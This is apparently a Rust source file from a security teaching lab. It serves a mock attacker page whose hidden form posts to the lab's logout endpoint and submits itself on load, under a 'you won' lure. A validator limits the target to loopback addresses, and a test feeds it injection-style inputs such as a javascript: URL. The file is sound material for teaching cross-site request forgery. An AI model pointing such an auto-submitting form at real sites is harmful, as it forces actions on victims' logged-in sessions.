//! The attacker's page for the cross-site forgery lesson. This server serves it, but the lesson
//! loads it under the *other* loopback name (`localhost` when you browse `127.0.0.1`, and the
//! reverse), which the browser treats as a different origin and a different site, exactly as it
//! would a stranger's page. The page holds a form that posts to the lab's logout endpoint and
//! submits itself the moment it loads: no click needed, no JavaScript access to the lab needed.
//! The browser decides which cookies go along; the server decides whether to believe them.

use axum::{
    extract::Query,
    http::{header, StatusCode},
    response::{Html, IntoResponse, Response},
};
use serde::Deserialize;

#[derive(Deserialize)]
pub struct Target {
    /// The lab origin to attack, e.g. `http://127.0.0.1:3000`.
    target: String,
}

/// Only a loopback origin with a port: this page must not become a form that posts anywhere.
fn loopback_origin(target: &str) -> Option<&str> {
    let rest = target.strip_prefix("http://")?;
    let (host, port) = rest.split_once(':')?;
    let loopback = host == "127.0.0.1" || host == "localhost";
    let port_ok = !port.is_empty() && port.len() <= 5 && port.bytes().all(|b| b.is_ascii_digit());
    (loopback && port_ok).then_some(target)
}

pub async fn csrf_page(Query(query): Query<Target>) -> Response {
    let Some(target) = loopback_origin(&query.target) else {
        return (
            StatusCode::BAD_REQUEST,
            [(header::CONTENT_TYPE, "text/plain; charset=utf-8")],
            "target must be http://127.0.0.1:<port> or http://localhost:<port>",
        )
            .into_response();
    };
    Html(format!(
        r#"<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>A page on another site</title></head>
<body>
<h1>Congratulations, you won!</h1>
<p>This page is on another site. Its hidden form posts to {target}/api/session/logout as it loads.</p>
<form method="post" action="{target}/api/session/logout"><button type="submit">Claim the prize</button></form>
<script>document.forms[0].submit();</script>
</body>
</html>"#
    ))
    .into_response()
}

#[cfg(test)]
mod tests {
    use super::loopback_origin;

    #[test]
    fn only_loopback_origins_with_a_port_are_attacked() {
        assert!(loopback_origin("http://127.0.0.1:3000").is_some());
        assert!(loopback_origin("http://localhost:3100").is_some());
        for bad in [
            "https://example.com",
            "http://example.com:80",
            "http://127.0.0.1",
            "http://127.0.0.1:3000/path",
            "http://localhost:30\"00",
            "javascript:alert(1)",
        ] {
            assert!(loopback_origin(bad).is_none(), "{bad}");
        }
    }
}
